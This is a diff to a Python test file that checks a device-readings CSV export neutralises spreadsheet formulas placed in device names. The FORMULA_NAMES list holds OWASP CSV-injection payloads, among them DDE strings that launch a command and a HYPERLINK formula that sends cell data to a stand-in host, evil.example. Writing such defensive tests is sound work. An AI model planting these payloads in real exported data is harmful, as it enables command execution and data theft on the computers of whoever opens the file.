@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import tracemalloc
 from datetime import UTC, datetime, timedelta
 
@@ -114,3 +116,38 @@ def test_export_memory_does_not_grow_with_the_range(outside):
     assert (small_rows, large_rows) == (5_001, 50_001)
     # Ten times the rows; a list of them would need ten times the memory.
     assert large_peak < small_peak * 1.5, (small_peak, large_peak)
+
+
+# OWASP's CSV injection cases, and their fullwidth forms, as device names an admin could type.
+FORMULA_NAMES = [
+    "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1", "\r=1+1", '=HYPERLINK("http://evil.example/?"&A1,"x")', "＝1+1", "＋1", "－1", "＠SUM(A1)",
+    "=1,2", '="quoted"',
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("name", FORMULA_NAMES)
+def test_export_neutralises_formulas_in_text_cells(admin_client, outside, name):
+    device = outside.api_key.device
+    device.name = name
+    device.save()
+    record_readings(device=device, readings=[NewReading(1, -3.25, T0)])
+
+    answer = admin_client.get(f"/api/devices/{device.pk}/readings.csv")
+
+    assert answer.status_code == 200
+    text = b"".join(answer.streaming_content).decode()
+    [header, row] = list(csv.reader(io.StringIO(text, newline="")))
+    assert row[1] == "'" + name  # shown as typed, after the quote that keeps it text
+    assert row[3] == "-3.25"  # numbers stay numbers, minus sign and all
+
+
+def test_export_leaves_ordinary_names_alone(admin_client, outside):
+    device = outside.api_key.device
+    device.name = "Porch (north) 'A' = 1"
+    device.save()
+    record_readings(device=device, readings=[NewReading(1, 2.5, T0)])
+
+    lines = b"".join(admin_client.get(f"/api/devices/{device.pk}/readings.csv").streaming_content).decode()
+
+    assert lines.splitlines()[1] == "2026-01-01T00:00:00Z,Porch (north) 'A' = 1,1,2.5"
